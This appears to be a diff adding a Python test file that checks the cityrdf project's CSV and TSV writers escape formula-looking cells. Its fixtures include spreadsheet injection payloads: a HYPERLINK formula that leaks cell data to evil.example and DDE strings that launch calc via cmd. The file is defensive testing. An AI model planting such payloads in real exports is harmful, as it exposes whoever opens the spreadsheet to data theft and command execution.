@@ -1,0 +1,107 @@
+"""Every CSV/TSV the project writes shows a formula-looking cell as text (issue G §3): the shared
+rule (cityrdf.csvsafe) and each writer that uses it."""
+
+import csv
+import datetime as dt
+import io
+
+import pytest
+from rdflib import Literal, URIRef
+
+from cityrdf import compare, csvsafe, link, query
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "  =1+1",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "\tplain text after a tab",
+]
+HARMLESS = ["Tehran", "تهران", "-3", "+98", "1.5e3", "", "a=b", "https://example.org/x"]
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_formula_cells_are_made_text(text):
+    assert csvsafe.is_formula(text)
+    assert csvsafe.cell(text) == "'" + text
+
+
+@pytest.mark.parametrize("text", HARMLESS)
+def test_other_cells_are_kept_as_they_are(text):
+    assert not csvsafe.is_formula(text)
+    assert csvsafe.cell(text) == text
+
+
+def cells(text: str, delimiter: str = ",") -> list[list[str]]:
+    return list(csv.reader(io.StringIO(text), delimiter=delimiter))
+
+
+def test_query_csv_answers_escape_formula_cells():
+    answer = query.Answer(
+        ["partner", "label"],
+        [
+            (
+                URIRef("https://w3id.org/cityrdf/id/city/x"),
+                Literal("=cmd|' /C calc'!A0", lang="en"),
+            ),
+            (URIRef("https://w3id.org/cityrdf/id/city/y"), Literal("-3")),
+        ],
+    )
+    rows = cells(query.to_csv(answer))
+    assert rows[1] == ["https://w3id.org/cityrdf/id/city/x", "'=cmd|' /C calc'!A0"]
+    assert rows[2] == ["https://w3id.org/cityrdf/id/city/y", "-3"]
+
+
+def hostile_decisions(accepted: bool) -> list[link.Decision]:
+    place = link.Place("https://w3id.org/cityrdf/id/city/x", "city", label_en="=Evil()")
+    candidate = link.Candidate(
+        place.iri,
+        "wikidata",
+        "http://www.wikidata.org/entity/Q1",
+        "@SUM(1)",
+        0.9,
+        "semapv:LexicalMatching",
+        "test",
+        ["+label match"],
+    )
+    return [
+        link.Decision(
+            place,
+            "wikidata",
+            candidate if accepted else None,
+            [candidate],
+            "" if accepted else "low",
+        )
+    ]
+
+
+def test_link_review_csv_escapes_formula_cells():
+    rows = cells(link.review_table(hostile_decisions(accepted=False)))
+    row = dict(zip(rows[0], rows[1]))
+    assert (row["place_label"], row["candidate_label"], row["evidence"]) == (
+        "'=Evil()",
+        "'@SUM(1)",
+        "'+label match",
+    )
+
+
+def test_sssom_tsv_escapes_formula_labels():
+    text = link.sssom_table(hostile_decisions(accepted=True), dt.date(2026, 1, 1))
+    table = [line for line in text.splitlines() if not line.startswith("#")]
+    rows = cells("\n".join(table), delimiter="\t")
+    row = dict(zip(rows[0], rows[1]))
+    assert (row["subject_label"], row["object_label"], row["comment"]) == (
+        "'=Evil()",
+        "'@SUM(1)",
+        "'+label match",
+    )
+
+
+def test_comparison_csv_escapes_formula_cells():
+    row = compare.Row("paper only", ("Q1", "Q2"), ("=1+1", "-Berlin"), agreement="@x")
+    rows = cells(compare.to_csv([row]))
+    assert rows[1][1] == "'=1+1" and rows[1][3] == "'-Berlin" and rows[1][5] == "'@x"
